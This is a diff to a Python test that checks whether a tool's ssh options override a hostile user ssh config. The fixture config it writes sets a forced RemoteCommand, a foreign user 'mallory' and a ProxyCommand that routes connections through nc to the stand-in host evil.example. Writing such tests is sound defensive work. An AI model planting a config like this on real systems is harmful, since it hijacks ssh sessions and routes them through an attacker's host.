@@ -50,3 +50,20 @@ def test_the_cycles_ssh_reads_no_user_config_and_its_options_hold(tmp_path) -> N
     assert settings["identitiesonly"] == "yes" and settings["controlmaster"] == "auto"
     assert settings["stricthostkeychecking"] == "true"
     assert "remotecommand" not in settings and settings.get("requesttty") in (None, "auto")
+    # A hostile user config, given as ssh's config file: read without the cycle's options
+    # (the control), ignored with them, since their -F none comes last and wins.
+    hostile = tmp_path / "config"
+    hostile.write_text("Host *\n  RemoteCommand echo hijacked\n  RequestTTY force\n"
+                       "  ProxyCommand nc evil.example 22\n  User mallory\n")
+
+    def resolved(*args: str) -> dict[str, str]:
+        out = subprocess.run(["ssh", "-G", *args, endpoint.host], capture_output=True,
+                             text=True, check=True, stdin=subprocess.DEVNULL).stdout
+        return dict(line.split(" ", 1) for line in out.splitlines() if " " in line)
+
+    read = resolved("-F", str(hostile))
+    assert read["remotecommand"] == "echo hijacked" and read["user"] == "mallory"
+    kept_out = resolved("-F", str(hostile), *options)
+    assert "remotecommand" not in kept_out and "proxycommand" not in kept_out
+    assert kept_out.get("requesttty") in (None, "auto")
+    assert kept_out["user"] != "mallory"
